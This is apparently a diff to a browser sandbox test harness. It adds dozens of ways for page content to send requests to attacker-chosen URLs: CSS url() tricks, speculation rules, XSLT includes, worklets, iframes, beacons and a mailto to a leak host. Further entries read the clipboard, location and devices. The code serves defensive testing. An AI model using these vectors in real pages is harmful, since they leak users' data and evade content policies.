@@ -129,6 +129,116 @@ export async function attacksFromWithin(target: {
           [`fetch('${next()}')`],
         ) as () => unknown
       )(),
+    ...[
+      'compression-dictionary',
+      'search',
+      'pingback',
+      'apple-touch-icon',
+      'mask-icon',
+      'alternate stylesheet',
+      'preload stylesheet',
+      'expect',
+    ].map((rel) => () => element('link', { rel, href: next(), as: 'fetch', blocking: 'render' })),
+    ...['prefetch', 'prerender'].map((kind) => () => {
+      const rules = document.createElement('script');
+      rules.type = 'speculationrules';
+      const list = [{ source: 'list', urls: [next()], eagerness: 'immediate' }];
+      // the text of a script is guarded by trusted types; the document's own parser is not asked
+      rules.append(JSON.stringify({ [kind]: list }));
+      document.head.append(rules);
+    }),
+    () => element('img', { src: 'x', attributionsrc: next() }),
+    () => element('a', { href: '#', attributionsrc: next() }).click(),
+    () => element('iframe', { src: next(), credentialless: '' }),
+    () => element('iframe', { src: 'about:blank', csp: `report-uri ${next()}` }),
+    () => element('iframe', { src: `javascript:fetch('${next()}')` }),
+    () => element('fencedframe', { src: next() }),
+    () => element('portal', { src: next() }),
+    () => element('link', { rel: 'preload', as: 'image', imagesrcset: `${next()} 1x` }),
+    () => element('meta', { 'http-equiv': 'Content-Security-Policy', content: `report-uri ${next()}` }),
+    () => style(`p { background: image-set(url(${next()}) 1x); mask: url(${next()}#m) }`),
+    () => style(`@media print { body { background: url(${next()}) } } @page { background: url(${next()}) }`),
+    () => style(`@property --u { syntax: '<url>'; inherits: true; initial-value: url(${next()}) }`),
+    () => style(`@import url(${next()}) layer(x) supports(display: grid);`),
+    () => document.body.setAttribute('style', `content: url(${next()}); offset-path: url(${next()}#p)`),
+    () => {
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      const inner = frame.contentWindow as (Window & typeof globalThis) | null;
+      void inner?.fetch(next());
+      inner?.navigator.sendBeacon(next(), 'words');
+      if (inner) new inner.Image().src = next();
+      if (inner) inner.location.href = next();
+    },
+    ...[
+      'fetchLater',
+      'WebSocketStream',
+      'PresentationRequest',
+      'SharedStorage',
+      'TCPSocket',
+      'UDPSocket',
+      'Fence',
+    ].map((name) => () => {
+      const found = Reflect.get(globalThis, name) as unknown;
+      if (typeof found !== 'function') return ++count;
+      try {
+        return Reflect.apply(found, globalThis, [next()]) as unknown;
+      } catch {
+        return Reflect.construct(found as new (address: string) => unknown, [
+          next().replace('http', 'ws'),
+        ]) as unknown;
+      }
+    }),
+    () => (Reflect.get(globalThis, 'navigation') as { navigate(url: string): unknown }).navigate(next()),
+    () =>
+      Reflect.apply(Reflect.get(document.body, 'setHTMLUnsafe') as () => void, document.body, [
+        `<img src="${next()}">`,
+      ] as never),
+    () => {
+      const parse = Reflect.get(Document, 'parseHTMLUnsafe') as (html: string) => Document;
+      document.body.append(
+        ...parse(`<img src="${next()}"><link rel="stylesheet" href="${next()}">`).body.children,
+      );
+    },
+    () => document.body.append(document.createRange().createContextualFragment(`<img src="${next()}">`)),
+    () => {
+      const page = new DOMParser().parseFromString(
+        `<svg xmlns="http://www.w3.org/2000/svg"><image href="${next()}"/></svg>`,
+        'image/svg+xml',
+      );
+      document.body.append(page.documentElement);
+    },
+    () => {
+      const sheet = new DOMParser().parseFromString(
+        `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${next()}"/><xsl:template match="/"><xsl:copy-of select="document('${next()}')"/></xsl:template></xsl:stylesheet>`,
+        'text/xml',
+      );
+      const processor = new XSLTProcessor();
+      processor.importStylesheet(sheet);
+      processor.transformToFragment(document, document);
+    },
+    () => (Reflect.get(CSS, 'paintWorklet') as Worklet).addModule(next()),
+    () => new OfflineAudioContext(1, 1, 8_000).audioWorklet.addModule(next()),
+    () =>
+      navigator.credentials.get({ identity: { providers: [{ configURL: next(), clientId: 'x' }] } } as never),
+    () => navigator.registerProtocolHandler('web+leak', `${next()}/%s`),
+    () =>
+      (Reflect.get(navigator, 'joinAdInterestGroup') as (group: object) => unknown)({
+        owner: next(),
+        name: 'x',
+      }),
+    () => window.open(`app://other/${next()}`),
+    () => location.assign(URL.createObjectURL(new Blob([`<img src="${next()}">`], { type: 'text/html' }))),
+    () => location.assign('mailto:leak@leak.example?body=words'),
+    () => location.assign('ms-settings:privacy'),
+    () => navigator.clipboard.readText(),
+    () => navigator.geolocation.getCurrentPosition(() => undefined),
+    () => (Reflect.get(globalThis, 'showOpenFilePicker') as () => unknown)(),
+    () => (Reflect.get(globalThis, 'queryLocalFonts') as () => unknown)(),
+    ...['bluetooth', 'usb', 'hid', 'serial'].map((device) => () => {
+      const found = Reflect.get(navigator, device) as { requestDevice?(wish: object): unknown } | undefined;
+      return found?.requestDevice?.({ filters: [], acceptAllDevices: true });
+    }),
     () => caches.open('leak').then((cache) => cache.add(next())),
     () => new Notification('words', { icon: next() }),
     () => navigator.share({ url: next() }),
